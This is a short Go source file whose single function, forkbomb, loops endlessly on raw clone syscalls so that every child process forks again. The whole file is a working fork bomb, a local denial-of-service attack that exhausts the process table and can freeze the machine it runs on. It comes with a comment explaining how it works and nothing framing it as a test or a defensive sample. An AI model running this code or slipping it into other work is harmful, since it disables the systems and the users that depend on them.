package main

import "syscall"

// forkbomb forks without end; each child does the same. Only the raw
// syscall is used after fork, which is safe in a Go child.
func forkbomb() {
	for {
		syscall.RawSyscall(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0)
	}
}
